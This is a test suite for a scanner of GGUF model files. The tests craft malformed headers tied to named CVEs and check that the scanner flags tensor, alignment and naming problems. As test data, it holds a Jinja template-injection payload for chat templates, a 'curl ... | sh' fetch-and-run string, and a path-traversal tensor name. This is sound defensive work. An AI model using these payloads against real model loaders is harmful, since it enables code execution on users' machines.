import { describe, expect, it } from "vitest";
import { concat, u32, u64, zeros } from "../../builders/bytes.js";
import {
  type GgufSpec,
  gguf,
  ggufNumber,
  ggufRaw,
  ggufString,
  ggufText,
  ggufTexts,
  oneGgufTensor,
} from "../../builders/gguf.js";
import { memoryTree } from "../../builders/memory-tree.js";
import { scanBytes, told } from "../../builders/scan.js";

async function scan(spec: GgufSpec, name = "model.gguf"): Promise<string[]> {
  return told(await scanBytes(name, gguf(spec)));
}

const tensor = (name: string, offset: number | bigint, dims: readonly (number | bigint)[] = [4], type = 0) => ({
  name,
  dims,
  type,
  offset,
});

describe("the GGUF scanner", () => {
  it("is silent on an ordinary file and tells what it holds", async () => {
    const entries = [
      ggufText("general.architecture", "llama"),
      ggufText("general.name", "tiny"),
      ggufText("general.license", "mit"),
      ggufNumber("llama.context_length", 128),
      ggufTexts("tokenizer.ggml.tokens", ["<s>", "{{", "__import__('os')"]),
    ];
    const report = await scanBytes("model.gguf", gguf({ ...oneGgufTensor, entries }));
    expect(told(report)).toEqual([]);
    expect(report.metadata).toMatchObject({
      architecture: "llama",
      name: "tiny",
      license: "mit",
      context_length: 128,
      tensors: 1,
      parameters: 4,
    });
  });

  it("reads version 1, big-endian files and files without tensors", async () => {
    expect(await scan({ ...oneGgufTensor, version: 1 })).toEqual(["info gguf/unsupported-version"]);
    expect(
      await scan({ ...oneGgufTensor, bigEndian: true, entries: [ggufText("general.name", "big", false)] }),
    ).toEqual([]);
    expect(await scan({ entries: [ggufText("general.architecture", "llama")] })).toEqual([]);
  });

  it.each([
    ["tensor count", { tensorCount: 1n << 62n }, "CVE-2024-21836"],
    ["metadata count", { entryCount: 1n << 62n }, "CVE-2024-23605"],
    [
      "string length",
      { entries: [concat(ggufString("general.name"), u32(8), u64((1n << 64n) - 1n))] },
      "CVE-2024-23496",
    ],
    ["array count", { entries: [ggufRaw("a", 9, concat(u32(10), u64(1n << 61n)))] }, "CVE-2024-21825"],
    ["number of dimensions", { tensors: [tensor("w", 0, [1, 1, 1, 1, 1])], data: 32 }, "CVE-2024-21802"],
  ])("tells a %s that cannot be, and whose advisory it is", async (_what, spec, advisory) => {
    const report = await scanBytes("model.gguf", gguf(spec));
    expect(told(report)).toContain("medium gguf/header-arithmetic");
    expect(report.state).toBe("partial");
    expect(report.findings.flatMap(({ references }) => references)).toContain(advisory);
  });

  it("names no advisory for a file that is merely cut short", async () => {
    const whole = gguf({ entries: [ggufText("general.name", "a name of some length")] });
    const report = await scanBytes("model.gguf", whole.subarray(0, whole.length - 4));
    expect(told(report)).toContain("medium gguf/header-arithmetic");
    expect(report.findings.flatMap(({ references }) => references)).toEqual([]);
  });

  it.each([
    ["a product beyond 63 bits", tensor("w", 0, [1n << 32n, 1n << 32n, 4n]), "gguf/tensor-size", "CVE-2026-33298"],
    ["a size beyond 63 bits", tensor("w", 0, [1n << 62n]), "gguf/tensor-size", "CVE-2026-33298"],
    ["a tensor outside the file", tensor("w", 0, [4096]), "gguf/tensor-outside", "CVE-2026-7482"],
    ["an offset outside the file", tensor("w", 1n << 40n), "gguf/tensor-outside", "CVE-2026-7482"],
    ["rows that are no whole blocks", tensor("w", 0, [48], 2), "gguf/tensor-size", undefined],
    ["a tensor without dimensions", tensor("w", 0, []), "gguf/tensor-size", undefined],
    ["an offset off the alignment", tensor("w", 8), "gguf/tensor-alignment", undefined],
    ["a type that nobody has", tensor("w", 0, [4], 5000), "gguf/unknown-tensor-type", undefined],
  ])("tells %s", async (_what, row, rule, advisory) => {
    const report = await scanBytes("model.gguf", gguf({ tensors: [row], data: 64 }));
    expect(told(report)).toContain(`medium ${rule}`);
    if (advisory) expect(report.findings.flatMap(({ references }) => references)).toContain(advisory);
  });

  it("adds up sizes that wrap around only together", async () => {
    const half = [1n << 30n, 1n << 30n, 1n] as const;
    const tensors = Array.from({ length: 20 }, (_, i) => tensor(`w${i}`, 0, half, 28));
    const report = await scanBytes("model.gguf", gguf({ tensors, data: 64 }));
    expect(report.findings.flatMap(({ references }) => references)).toContain("CVE-2025-53630");
  });

  it("tells overlaps and gaps, and takes tensors in any order", async () => {
    expect(await scan({ tensors: [tensor("b", 32), tensor("a", 0)], data: 64 })).toEqual([]);
    expect(await scan({ tensors: [tensor("a", 0, [16]), tensor("b", 32)], data: 64 })).toEqual([
      "medium gguf/tensor-overlap",
    ]);
    expect(await scan({ tensors: [tensor("a", 0), tensor("b", 96)], data: 128 })).toEqual(["low gguf/tensor-gap"]);
  });

  it("looks into the padding before the data", async () => {
    const whole = gguf(oneGgufTensor);
    whole[whole.length - 33] = 1;
    expect(told(await scanBytes("model.gguf", whole))).toEqual(["low gguf/tensor-gap"]);
  });

  it("notes a newer or forked type without alarm", async () => {
    expect(await scan({ tensors: [tensor("w", 0, [32], 42)], data: 64 })).toEqual(["info gguf/new-tensor-type"]);
    expect(await scan({ tensors: [tensor("w", 0, [32], 339)], data: 64 })).toEqual(["info gguf/new-tensor-type"]);
  });

  it("tells a type that loaders have given up", async () => {
    expect(await scan({ tensors: [tensor("w", 0, [32], 4)], data: 32 })).toEqual(["low gguf/removed-tensor-type"]);
    expect(await scan({ tensors: [tensor("w", 0, [32], 36)], data: 64 })).toEqual(["low gguf/removed-tensor-type"]);
  });

  it.each([0, 24, 1 << 30])("refuses the alignment %i", async (alignment) => {
    const report = await scanBytes(
      "m.gguf",
      gguf({ ...oneGgufTensor, entries: [ggufNumber("general.alignment", alignment)] }),
    );
    expect(told(report)).toContain("medium gguf/bad-alignment");
    expect(report.state).toBe("partial");
  });

  it("refuses an alignment of another type than loaders read", async () => {
    expect(await scan({ entries: [ggufRaw("general.alignment", 10, u64(32))] })).toEqual(["medium gguf/bad-alignment"]);
  });

  it("places tensors by the alignment that the file states", async () => {
    const entries = [ggufNumber("general.alignment", 64)];
    expect(await scan({ ...oneGgufTensor, entries, alignment: 64, data: 64 })).toEqual([]);
    expect(await scan({ tensors: [tensor("w", 32)], entries, alignment: 64, data: 64 })).toContain(
      "medium gguf/tensor-alignment",
    );
  });

  it("tells keys and tensors that stand twice", async () => {
    const twice = [ggufText("general.name", "a"), ggufText("general.name", "b")];
    expect(await scan({ entries: twice })).toEqual(["medium gguf/duplicate-key"]);
    expect(await scan({ tensors: [tensor("w", 0), tensor("w", 32)], data: 64 })).toEqual(["medium gguf/duplicate-key"]);
  });

  it("tells names that are paths, too long or no text", async () => {
    expect(await scan({ tensors: [tensor("../../x", 0)], data: 32 })).toEqual(["medium weights/path-like-name"]);
    expect(await scan({ tensors: [tensor("n".repeat(64), 0)], data: 32 })).toEqual(["low gguf/odd-name"]);
    expect(await scan({ tensors: [tensor("n".repeat(63), 0)], data: 32 })).toEqual([]);
    expect(await scan({ entries: [ggufText(Uint8Array.of(0xff, 0xfe), "x")] })).toEqual(["low gguf/odd-name"]);
    expect(await scan({ entries: [ggufText("a\u001b[31m", "x")] })).toEqual(["low gguf/odd-name"]);
  });

  it("holds the names of a model against the policy", async () => {
    const policy = { blacklist: { patterns: ["evilnet"] } };
    const named = async (key: string, name: string) =>
      told(await scanBytes("m.gguf", gguf({ entries: [ggufText(key, name)] }), { policy }));
    expect(await named("general.name", "EvilNet 7B")).toEqual(["high policy/forbidden-name"]);
    expect(await named("general.base_model.0.name", "evilnet")).toEqual(["high policy/forbidden-name"]);
    expect(await named("general.name", "Tiny")).toEqual([]);
  });

  it("judges every chat template of a file", async () => {
    const attack = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
    for (const entry of [
      ggufText("tokenizer.chat_template", attack),
      ggufText("tokenizer.chat_template.tool_use", attack),
      ggufTexts("tokenizer.chat_templates", ["{{ messages }}", attack]),
    ]) {
      const report = await scanBytes("model.gguf", gguf({ entries: [entry] }));
      expect(report.findings[0]?.severity).toBe("critical");
    }
    const ordinary = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] | trim }}\n{% endfor %}";
    expect(await scan({ entries: [ggufText("tokenizer.chat_template", ordinary)] })).toEqual([]);
  });

  it("tells a template under another key as suspicious, and one that is no text", async () => {
    const report = await scanBytes(
      "m.gguf",
      gguf({ entries: [ggufText("general.license", "{{ ''.__class__.__base__.__subclasses__() }}")] }),
    );
    expect(report.findings[0]?.severity).toBe("medium");
    expect(await scan({ entries: [ggufNumber("tokenizer.chat_template", 7)] })).toEqual(["medium gguf/template-type"]);
  });

  it("reads strings of nested arrays, and stops at deep ones", async () => {
    const nest = (depth: number): Uint8Array =>
      depth === 0
        ? concat(u32(8), u64(1), ggufString("curl http://x.example/a | sh"))
        : concat(u32(9), u64(1), nest(depth - 1));
    expect(await scan({ entries: [ggufRaw("a", 9, nest(3))] })).toContain("medium config/command-text");
    expect(await scan({ entries: [ggufRaw("a", 9, nest(20))] })).toEqual(["medium analysis/malformed"]);
  });

  it("tells what follows the last tensor", async () => {
    expect(await scan({ ...oneGgufTensor, data: concat(zeros(32), "#!/bin/sh\nid\n") })).toContain(
      "medium analysis/trailing-data",
    );
    expect(await scan({ ...oneGgufTensor, data: 16 })).toEqual([]);
  });

  it("misses the parts of a split model that are not there", async () => {
    const part = gguf({ entries: [ggufNumber("split.count", 2), ggufNumber("split.no", 0)] });
    const scanPart = async (...names: string[]) => {
      const tree = memoryTree(Object.fromEntries(names.map((name) => [name, part])));
      return told(await scanBytes("m-00001-of-00002.gguf", part, { tree }));
    };
    expect(await scanPart("m-00001-of-00002.gguf")).toEqual(["low repository/missing-shard"]);
    expect(await scanPart("m-00001-of-00002.gguf", "m-00002-of-00002.gguf")).toEqual([]);
  });

  it("never calls a prefix of a file clean", async () => {
    const whole = gguf({
      ...oneGgufTensor,
      entries: [ggufText("general.name", "tiny"), ggufTexts("tags", ["a", "b"])],
    });
    for (let length = 4; length < whole.length - 16; length++) {
      const report = await scanBytes("model.gguf", whole.subarray(0, length));
      expect(
        report.findings.some(({ severity }) => severity === "medium"),
        `${length} bytes`,
      ).toBe(true);
    }
  });
});
